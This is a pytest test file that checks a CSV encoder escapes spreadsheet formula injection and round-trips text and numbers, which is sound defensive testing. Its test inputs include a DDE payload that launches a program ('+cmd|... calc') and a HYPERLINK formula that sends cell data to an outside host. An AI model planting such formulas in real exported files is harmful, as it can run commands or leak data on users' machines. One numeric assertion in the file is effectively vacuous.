"""No cell is a formula, every text comes back, and numbers stay numbers."""

from __future__ import annotations

import csv
import io
import random

import pytest

from taskloom.core.csv_table import encode_csv, read_csv

SIGNS = "=+-@"


@pytest.mark.parametrize(
    "text",
    [
        "=1+1", "+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\t=1", "\r=1", " =1", "'=1", "''-x", "\uff1dx", "-", "=",
        '=HYPERLINK("http://x/"&A1)', "- a list", "-5e", "--5", "\n=x", "\u00a0=x", "'\t",
    ],
)  # fmt: skip
def test_a_formula_is_written_as_a_text_and_read_back(text, tmp_path):
    written = encode_csv([text, "b"], [[text, "x"]])
    for row in csv.reader(io.StringIO(written, newline="")):
        assert row[0].startswith("'") and row[0][1:] == text
    path = tmp_path / "a.csv"
    path.write_bytes(written.encode())
    assert list(read_csv(path)) == [{text: text, "b": "x"}]


@pytest.mark.parametrize("text", ["-5", "+0.25", "-1e-05", "-.5", "-12%", "a=b", "", "it's", "'quoted'", "'", "5-3"])
def test_numbers_and_other_texts_stay_as_they_are(text, tmp_path):
    assert encode_csv(["a", "b"], [[text, -0.5]]) == f"a,b\n{text},-0.5\n"


def test_texts_of_all_signs_come_back(tmp_path):
    draw, path = random.Random(3), tmp_path / "a.csv"
    texts = ["".join(draw.choices("=+-@'\" ,\t\r\n\u00a0a1.%e", k=draw.randint(0, 7))) for _ in range(3_000)]
    path.write_bytes(encode_csv(["n", "text"], enumerate(texts)).encode())
    assert [row["text"] for row in read_csv(path)] == texts
    with path.open(newline="") as file:
        formulas = [cell for row in csv.reader(file) for cell in row if cell.strip(" \t\r\n\u00a0")[:1] in tuple(SIGNS)]
    assert [cell for cell in formulas if float(cell.rstrip("%")) is None] == []


def test_a_table_is_read_row_by_row(tmp_path):
    path = tmp_path / "a.csv"
    path.write_bytes(b"\xef\xbb\xbfa,b\r\n1,2\r\n\xff,3\r\n")
    rows = read_csv(path)
    assert next(rows) == {"a": "1", "b": "2"}
    with pytest.raises(Exception, match=r"a\.csv:3: .*not UTF-8"):
        next(rows)
